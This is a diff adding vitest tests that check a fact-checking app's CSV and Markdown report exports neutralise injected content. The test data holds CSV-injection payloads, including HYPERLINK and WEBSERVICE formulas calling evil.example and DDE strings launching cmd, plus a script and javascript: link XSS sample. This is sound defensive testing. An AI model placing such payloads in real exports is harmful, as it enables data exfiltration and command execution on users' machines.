@@ -2,6 +2,7 @@
 // W3C conformance of the real output and 400 for unknown formats.
 import { beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
+import MarkdownIt from 'markdown-it';
 import { createSampleArticle, createTestUser, testDatabase, type TestUser } from '../support/db';
 import { anonymous, login, type Client } from '../support/http';
 import { failedAssertions, MUST_TESTS } from '../unit/report/w3c-conformance';
@@ -61,9 +62,33 @@ describe('report export', () => {
     const rows: Record<string, string>[] = parse((await (await get('csv')).text()).replace(/^\uFEFF/, ''), { columns: true });
     expect(rows.map((r) => r.status)).toEqual(['verified', 'disputed', 'needs_source']);
     expect(rows[0].passage).toBe('Syrian opposition forces have seized control of Aleppo’s military airport');
+    // A "=" inside the cell is not a formula: only a leading one is neutralised.
     expect(rows[0].note).toBe('Confirmed by two agencies, "on record", =1+1');
     expect(rows[0].sources).toContain('https://example.org/agency');
     expect(rows[1].reviewer).toBe('Борис Проверкин');
+
+    // Notes a spreadsheet would run as formulas (OWASP CSV injection: = + - @ and tab), on an
+    // article of their own so the counts above stay as they are.
+    const formulas = ['=HYPERLINK("https://evil.example","Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];
+    const formulaArticle = createSampleArticle(alice, 'Report check: formulas');
+    const text = new CanonicalText(getArticleText(testDatabase().db, alice, formulaArticle)!);
+    const passages = ['Aleppo and Idlib', 'Hezbollah in Syria', 'Wagner Group mercenaries', 'Iran-backed militias', 'General Sergei Kisel'];
+    for (const [i, note] of formulas.entries()) {
+      const start = text.offsetFromUnit(text.text.indexOf(passages[i]));
+      const res = await aliceClient.post(`/api/articles/${formulaArticle}/annotations`, {
+        start,
+        end: start + [...passages[i]].length,
+        status: 'disputed',
+        note,
+        sources: i === 0 ? [{ url: 'https://example.org/sheet', title: '=WEBSERVICE("https://evil.example")' }] : [],
+      });
+      expect(res.status).toBe(201);
+    }
+    const csv = await (await aliceClient.get(`/api/articles/${formulaArticle}/report?format=csv`)).text();
+    const formulaRows: Record<string, string>[] = parse(csv.replace(/^\uFEFF/, ''), { columns: true });
+    const notes = formulaRows.map((r) => r.note).sort();
+    expect(notes).toEqual(formulas.map((n) => `'${n}`).sort());
+    expect(formulaRows.find((r) => r.sources.includes('example.org/sheet'))!.sources).toBe(`'=WEBSERVICE("https://evil.example") <https://example.org/sheet>`);
   });
 
   it('W3C JSON-LD passes every MUST assertion of the W3C suite', async () => {
@@ -90,6 +115,12 @@ describe('report export', () => {
     expect(html).not.toMatch(/href="javascript:/i);
     const md = await (await get('md')).text();
     expect(md).not.toMatch(/\]\(javascript:/);
+    // The note is there — escaped, not dropped — and renders as its own text, with no link or tag.
+    expect(md).toContain('> \\<script\\>alert\\(1\\)\\</script\\> \\[x\\]\\(javascript:alert\\(1\\)\\)');
+    const rendered = new MarkdownIt({ html: true }).render(md);
+    expect(rendered).toContain('&lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(1))');
+    expect(rendered).not.toContain('<script>');
+    expect(rendered).not.toMatch(/href="javascript:/i);
     const pdf = new Uint8Array(await (await get('pdf')).arrayBuffer());
     expect(new TextDecoder().decode(pdf.slice(0, 5))).toBe('%PDF-');
   });
